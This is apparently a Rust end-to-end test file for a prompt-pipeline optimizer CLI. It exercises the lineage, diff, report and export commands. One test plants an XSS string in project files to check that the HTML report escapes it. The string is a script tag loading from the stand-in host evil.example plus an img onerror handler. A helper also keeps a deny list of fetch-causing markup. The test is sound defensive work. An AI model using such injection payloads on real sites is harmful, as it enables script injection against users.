//! What can be seen and taken from a finished job: lineage, differences, the report, the exported variant.

use std::path::Path;
use std::process::Command;

use fapo_e2e::Project;
use serde_json::Value;

use super::commands::{DONE, FAILED, USAGE, fails, json, prints, small};

/// A small project that was optimized, with the summary.
fn optimized() -> (Project, Value) {
    let project = small();
    let summary = json(&project, "optimize", &[]);
    assert_eq!(summary["improved"], true, "{summary:#}");
    (project, summary)
}

fn text_of(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap()
}

#[test]
fn lineage_and_diff_show_what_was_tried() {
    let (project, summary) = optimized();
    let rows = json(&project, "lineage", &[]);
    let rows = rows.as_array().unwrap();
    assert_eq!(rows[0]["outcome"], "baseline");
    let best: Vec<&Value> = rows.iter().filter(|row| row["best"] == true).collect();
    assert_eq!(best.len(), 1);
    assert_eq!(best[0]["variant"], summary["best"]);
    assert_eq!(best[0]["parent"], summary["baseline"]);
    prints(
        &project.fapo("lineage", &[]).unwrap(),
        &["baseline", "promoted", "← best"],
    );

    let shown = project.fapo("diff", &[]).unwrap();
    prints(&shown, &["--- a/pipeline/prompts/classify.md", "\n+"]);
    let typed = json(&project, "diff", &["baseline", "best"]);
    assert_eq!(typed["level"], "prompt", "{typed:#}");
    assert_eq!(typed["a"], summary["baseline"]);
    assert_eq!(typed["b"], summary["best"]);
    assert!(!typed["changes"].as_array().unwrap().is_empty());
    assert_eq!(typed["patch"], shown.stdout().as_str());
    let digits = &summary["best"].as_str().unwrap()[..10];
    assert_eq!(json(&project, "diff", &["baseline", digits]), typed);
    // the folder is as it was: only what the user does changes it
    let same = project.fapo("diff", &["baseline", "current"]).unwrap();
    assert_eq!((same.code(), same.stdout().as_str()), (DONE, ""));
    project
        .edit(
            "pipeline/pipeline.yaml",
            "    prompt:",
            "    temperature: 0.5\n    prompt:",
        )
        .unwrap();
    let changed = json(&project, "diff", &["baseline", "current"]);
    assert_eq!(changed["level"], "parameter", "{changed:#}");

    fails(
        &project,
        "diff",
        &["best", "zzzz"],
        FAILED,
        &["no variant zzzz"],
    );
    fails(
        &project,
        "lineage",
        &["--job", "zz"],
        FAILED,
        &["no job zz"],
    );
}

/// Nothing in the page makes a browser fetch anything.
pub fn is_self_contained(page: &str) {
    for outside in [
        "<script",
        "<link",
        "<img",
        "<iframe",
        "<object",
        "<embed",
        "@import",
        "url(",
        "fetch(",
        "src=",
        "srcset=",
        "http-equiv",
    ] {
        assert!(!page.contains(outside), "the page has {outside}");
    }
    for target in page.split("href=").skip(1) {
        assert!(
            target.starts_with("\"#"),
            "{}",
            &target[..target.len().min(60)]
        );
    }
    assert!(
        page.trim_start()
            .to_lowercase()
            .starts_with("<!doctype html")
    );
    assert!(page.trim_end().ends_with("</html>"));
}

/// Markup's own spelling of characters undone.
fn unescaped(text: &str) -> String {
    [
        ("\u{a0}", " "),
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&#x2f;", "/"),
        ("&#x27;", "'"),
        ("&quot;", "\""),
        ("&amp;", "&"),
        ("\\", ""),
    ]
    .iter()
    .fold(text.to_owned(), |text, (from, to)| text.replace(from, to))
}

#[test]
fn report_writes_markdown_and_one_self_contained_page() {
    let (project, summary) = optimized();
    let out = project.path().join("out");
    let to = out.to_str().unwrap();
    let written = json(&project, "report", &["--out", to]);
    assert_eq!(written["job"], summary["job"]);
    assert_eq!(written["verdict"], summary["verdict"]);
    let page = text_of(&out.join("report.html"));
    is_self_contained(&page);
    let markdown = text_of(&out.join("report.md"));
    for text in [&page, &markdown] {
        let verdict = summary["verdict"].as_str().unwrap();
        assert!(unescaped(text).contains(verdict), "{verdict}");
        assert!(text.contains("classify.md"), "the prompt's difference");
    }
    // made again it is the same, and the one that `optimize` wrote
    assert_eq!(
        page,
        text_of(Path::new(summary["report"].as_str().unwrap()))
    );
    prints(
        &project.fapo("report", &[]).unwrap(),
        &["report.html", "report.md"],
    );
    fails(&project, "report", &["--job", "zz"], FAILED, &["no job zz"]);
    project.write("file", "").unwrap();
    let file = project.path().join("file");
    fails(
        &project,
        "report",
        &["--out", file.to_str().unwrap()],
        FAILED,
        &["--out"],
    );
}

#[test]
fn no_text_of_a_project_breaks_out_of_the_page() {
    let project = small();
    let attack = "</pre><script src=//evil.example/x.js></script><img src=x onerror=alert(1)>";
    let line = serde_json::json!({
        "case_id": attack, "input": {"ticket": attack}, "expected": {"label": attack}
    });
    let train = project.read("data/train.jsonl").unwrap();
    project
        .write("data/train.jsonl", format!("{line}\n{train}"))
        .unwrap();
    project
        .edit(
            "fapo.yaml",
            "four labels.",
            &format!("four labels. {attack}"),
        )
        .unwrap();
    project
        .edit(
            "pipeline/prompts/classify.md",
            "user:",
            &format!("{attack}\n\nuser:"),
        )
        .unwrap();
    let summary = json(&project, "optimize", &[]);
    let page = text_of(Path::new(summary["report"].as_str().unwrap()));
    for shown in ["four labels. &lt;", "evil.example"] {
        assert!(page.contains(shown), "{shown} is in the report");
    }
    is_self_contained(&page.replace("src=", ""));
}

#[test]
fn the_exported_patch_applied_to_the_baseline_is_the_exported_folder() {
    let project = Project::example("missing-hop").unwrap();
    let summary = json(&project, "optimize", &[]);
    let (out, patch) = (project.path().join("out"), project.path().join("p.patch"));
    let (to, file) = (out.to_str().unwrap(), patch.to_str().unwrap());
    let exported = json(&project, "export", &["--to", to]);
    assert_eq!(exported["variant"], summary["best"]);
    json(&project, "export", &["--patch", file]);
    // the best variant has files that the baseline lacks: a patch must make them
    assert!(text_of(&patch).contains("/dev/null"), "{}", text_of(&patch));
    let applied = Command::new("git")
        .args(["apply", "p.patch"])
        .current_dir(project.path())
        .env("GIT_CEILING_DIRECTORIES", project.path().parent().unwrap())
        .output()
        .unwrap();
    assert!(
        applied.status.success(),
        "{}",
        String::from_utf8_lossy(&applied.stderr)
    );
    let same = Command::new("diff")
        .args(["-r", "pipeline", "out"])
        .current_dir(project.path())
        .output()
        .unwrap();
    assert!(
        same.status.success(),
        "{}",
        String::from_utf8_lossy(&same.stdout)
    );
    // what was exported is a pipeline that runs, and scores as the report says
    let result = json(&project, "eval", &[]);
    assert_eq!(result["variant"], summary["best"]);
    assert_eq!(result["mean"], summary["val"]["best"]["mean"]);

    fails(
        &project,
        "export",
        &["--to", to],
        FAILED,
        &["not empty", "--force"],
    );
    fails(
        &project,
        "export",
        &["--patch", file],
        FAILED,
        &["exists", "--force"],
    );
    fails(
        &project,
        "export",
        &["--to", "x", "--variant", "zz"],
        FAILED,
        &["no variant zz"],
    );
    fails(&project, "export", &[], USAGE, &["--to"]);
}
